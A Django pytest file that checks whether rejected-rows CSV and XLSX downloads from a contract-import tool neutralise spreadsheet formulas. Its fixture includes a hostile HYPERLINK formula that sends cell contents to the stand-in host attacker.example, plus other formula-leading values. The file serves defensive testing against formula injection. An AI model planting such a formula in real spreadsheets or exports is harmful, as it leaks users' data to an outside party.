"""The rejected-rows downloads cannot run a formula, in their cells or in their headers."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from investigations import models as m

HOSTILE_HEADER = (
    '=hyperlink("https://attacker.example/?"&a1,"click")'  # headers are read lowercased
)
QUOTED_HEADER = '"' + HOSTILE_HEADER.replace('"', '""') + '"'
FILE = (
    f"title,reference,value,awarded,source,{QUOTED_HEADER},+note\n"
    "Mobile CT units,CT-1,(1200),2017,Trade press report,x,@SUM(1)\n"
).encode()


@pytest.fixture(autouse=True)
def var_dir(settings, tmp_path):
    settings.VAR_DIR = tmp_path


@pytest.fixture
def rejected(researcher_client):
    upload = SimpleUploadedFile("contracts.csv", FILE)
    researcher_client.post(reverse("admin:imports_upload"), {"file": upload})
    batch = m.ImportBatch.objects.get()

    def download(fmt):
        response = researcher_client.get(reverse("admin:imports_rejected", args=[batch.pk, fmt]))
        assert response.status_code == 200
        return response.content

    return download


def test_the_xlsx_download_neutralises_formula_headers_and_cells(rejected):
    sheet = openpyxl.load_workbook(io.BytesIO(rejected("xlsx"))).active
    headers, row = list(sheet.values)[:2]
    assert f"'{HOSTILE_HEADER}" in headers and "'+note" in headers
    assert "'@SUM(1)" in row
    assert not [cell for cell in sheet[1] if cell.data_type == "f"]


def test_the_csv_download_neutralises_formula_headers_and_cells(rejected):
    headers, row = list(csv.reader(io.StringIO(rejected("csv").decode("utf-8-sig"))))[:2]
    assert f"'{HOSTILE_HEADER}" in headers and "'+note" in headers
    assert "'@SUM(1)" in row
    assert not [value for value in headers + row if value[:1] in "=+-@"]
